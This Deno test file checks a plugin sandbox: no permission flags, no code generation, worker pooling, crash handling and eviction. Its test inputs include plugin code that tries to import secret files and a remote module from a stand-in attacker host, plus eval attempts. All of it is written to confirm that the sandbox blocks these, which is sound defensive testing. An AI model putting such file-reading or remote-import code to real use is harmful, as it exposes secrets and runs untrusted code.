/**
 * The sandbox process on its own, below the bundle check (defence in depth): code that the
 * check would refuse is sent straight to a real sandbox, which must still not read files,
 * import JSON or remote modules, or generate code.
 */
import assert from "node:assert/strict";
import { bootstrapBundle } from "../services/plugin_host/bundle.ts";
import { effectiveGrant } from "../services/plugin_host/grant.ts";
import { sandboxArgs, SandboxProcess } from "../services/plugin_host/sandbox.ts";
import type { SandboxExit } from "../services/plugin_host/sandbox.ts";
import { EvictedError } from "../services/plugin_host/errors.ts";
import { SECRET_JSON, SECRET_MARK, SECRET_TXT } from "./fixtures/plugins/_harness.ts";

async function withSandbox(
  fn: (sb: SandboxProcess, seen: string[]) => Promise<void>,
): Promise<SandboxExit[]> {
  const seen: string[] = [];
  const exits: SandboxExit[] = [];
  const sb = await SandboxProcess.spawn({
    memoryMb: 64,
    bootstrap: await bootstrapBundle(),
    handlers: {
      capability: (plugin, method, args) => {
        seen.push(JSON.stringify({ plugin, method, args }));
        return Promise.resolve(null);
      },
      crash: (plugin, e) => void seen.push(`${plugin} crash ${e.message}`),
      evicted: (plugin, reason) => void seen.push(`${plugin} evicted ${reason}`),
      exit: (info) => void exits.push(info),
      stderr: (line) => void seen.push(line),
    },
  });
  try {
    await fn(sb, seen);
  } finally {
    await sb.close();
  }
  assert.ok(!seen.join("\n").includes(SECRET_MARK), "the secret leaked");
  return exits;
}

const grant = effectiveGrant(["log"], undefined);

/** Load `code` unchecked; returns the load error message (or "loaded"). */
async function tryLoad(sb: SandboxProcess, id: string, code: string): Promise<string> {
  try {
    await sb.load(id, code, grant, {}, 0, 5000);
    return "loaded";
  } catch (e) {
    return (e as Error).message;
  }
}

Deno.test("sandboxArgs() grants no permission and disables code generation", () => {
  const args = sandboxArgs(96);
  assert.ok(!args.some((a) => a.startsWith("--allow")), args.join(" "));
  for (const flag of ["--no-prompt", "--no-remote", "--no-npm", "--no-config"]) {
    assert.ok(args.includes(flag), flag);
  }
  assert.ok(
    args.includes(
      "--v8-flags=--disallow-code-generation-from-strings,--max-old-space-size=96,--max-semi-space-size=1",
    ),
    args.join(" "),
  );
});

Deno.test("sandbox: unchecked static imports of files, JSON and remote modules fail without leaking", async () => {
  await withSandbox(async (sb) => {
    const text = await tryLoad(sb, "a", `import s from "file://${SECRET_TXT}"; export default { s };`);
    const json = await tryLoad(
      sb,
      "b",
      `import s from "file://${SECRET_JSON}" with { type: "json" }; export default { s };`,
    );
    const remote = await tryLoad(
      sb,
      "c",
      `import s from "https://evil.example.com/x.js"; export default { s };`,
    );
    assert.match(text, /^Requires read access to /);
    assert.match(json, /^Requires read access to /);
    assert.match(remote, /^Requires import access to "evil\.example\.com:443"/);
  });
});

Deno.test("sandbox: unchecked dynamic imports and code generation fail at run time", async () => {
  await withSandbox(async (sb) => {
    const code = `export default {
      async poll() {
        const out = [];
        for (const u of [${JSON.stringify(`file://${SECRET_JSON}`)}, ${
      JSON.stringify(`file://${SECRET_TXT}`)
    }]) {
          try { await import(u, { with: { type: "json" } }); out.push("read"); } catch (e) { out.push(e.name); }
        }
        try { eval("1"); out.push("eval ran"); } catch (e) { out.push(e.name); }
        try { new Function("return 1")(); out.push("Function ran"); } catch (e) { out.push(e.name); }
        return [{ sensor: "x", values: { out: out.join(",") } }];
      },
    };`;
    assert.equal(await tryLoad(sb, "d", code), "loaded");
    const [r] = await sb.call("d", "poll", [], 5000) as { values: { out: string } }[];
    const outcomes = r.values.out.split(",");
    assert.equal(outcomes.length, 4);
    assert.ok(!outcomes.some((o) => o === "read" || o.endsWith("ran")), r.values.out);
    assert.deepEqual(outcomes.slice(2), ["EvalError", "EvalError"]);
  });
});

/** A pooled plugin: `poll` returns its id, what it saw of a shared global, and logs both ways. */
const pooledCode = (mark: string) =>
  `globalThis.marks = [...(globalThis.marks ?? []), ${JSON.stringify(mark)}];
  export default {
    poll(ctx) {
      console.log("console of ${mark}");
      ctx.log.info("log of " + ctx.id);
      return [{ sensor: ctx.id, values: { marks: globalThis.marks.join(",") } }];
    },
    command(_ctx, name) {
      if (name === "throw-later") setTimeout(() => { throw new Error("late boom in ${mark}"); }, 1);
      if (name === "reject-later") Promise.reject(new Error("unhandled in ${mark}"));
      return {};
    },
  };`;

async function loadPooled(sb: SandboxProcess, ids: string[]): Promise<void> {
  for (const id of ids) await sb.load(id, pooledCode(id), grant, {}, 0, 5000, "trusted");
}

const marksOf = async (sb: SandboxProcess, id: string) =>
  ((await sb.call(id, "poll", [], 5000)) as { sensor: string; values: { marks: string } }[])[0];

Deno.test("sandbox: trusted plugins in one pooled worker share it, each speaking under its own id", async () => {
  await withSandbox(async (sb, seen) => {
    await loadPooled(sb, ["pa", "pb"]);
    await sb.load("own", pooledCode("own"), grant, {}, 0, 5000);
    const a = await marksOf(sb, "pa"), b = await marksOf(sb, "pb"), own = await marksOf(sb, "own");
    assert.deepEqual([a.sensor, b.sensor, own.sensor], ["pa", "pb", "own"]);
    assert.equal(a.values.marks, "pa,pb", "one worker: the pool's modules share their globals");
    assert.equal(own.values.marks, "own", "a plugin of its own keeps a worker of its own");
    const logs = seen.map((l) => JSON.parse(l)).filter((m) => m.method === "log").map((m) =>
      `${m.plugin}: ${m.args[1]}`
    );
    for (const id of ["pa", "pb", "own"]) {
      assert.ok(logs.includes(`${id}: console of ${id}`), `${id}'s console: ${logs.join(" | ")}`);
      assert.ok(logs.includes(`${id}: log of ${id}`), `${id}'s ctx.log: ${logs.join(" | ")}`);
    }
  });
});

for (const how of ["throw-later", "reject-later"]) {
  Deno.test(`sandbox: an uncaught error (${how}) in a pooled worker is its plugin's crash; the neighbour is evicted`, async () => {
    const exits = await withSandbox(async (sb, seen) => {
      await loadPooled(sb, ["pa", "pb"]);
      await sb.load("own", pooledCode("own"), grant, {}, 0, 5000);
      await sb.call("pb", "command", [how, {}], 5000);
      const deadline = Date.now() + 5000;
      while (!seen.some((l) => l.startsWith("pa evicted")) && Date.now() < deadline) {
        await new Promise((r) => setTimeout(r, 20));
      }
      const events = seen.filter((l) => / (crash|evicted) /.test(l));
      assert.equal(events.length, 2, events.join(" | "));
      assert.match(events.find((l) => l.startsWith("pb crash")) ?? "", /(late boom|unhandled) in pb/);
      assert.match(events.find((l) => l.startsWith("pa evicted")) ?? "", /plugin "pb" in its shared worker/);
      await assert.rejects(sb.call("pa", "poll", [], 5000), /not loaded in this sandbox/);
      assert.equal((await marksOf(sb, "own")).sensor, "own", "a worker of its own is untouched");
      await loadPooled(sb, ["pa"]);
      assert.equal((await marksOf(sb, "pa")).values.marks, "pa", "reloaded into a fresh pooled worker");
    });
    assert.equal(exits.at(-1)?.killedFor, "close", "the process itself never died");
  });
}

Deno.test("sandbox: unloading one pooled plugin evicts its neighbours; their calls in flight fail as evicted", async () => {
  await withSandbox(async (sb, seen) => {
    const slow = `export default { poll: () => new Promise((r) => setTimeout(() => r([]), 2000)) };`;
    await sb.load("slow", slow, grant, {}, 0, 5000, "trusted");
    await loadPooled(sb, ["pa"]);
    const inFlight = sb.call("slow", "poll", [], 5000);
    sb.unload("pa");
    await assert.rejects(inFlight, (e) => e instanceof EvictedError && /plugin "pa"/.test(e.message));
    assert.ok(seen.some((l) => l.startsWith("slow evicted")), seen.join(" | "));
    assert.ok(!seen.some((l) => / crash /.test(l)), "nobody is blamed for an unload");
  });
});
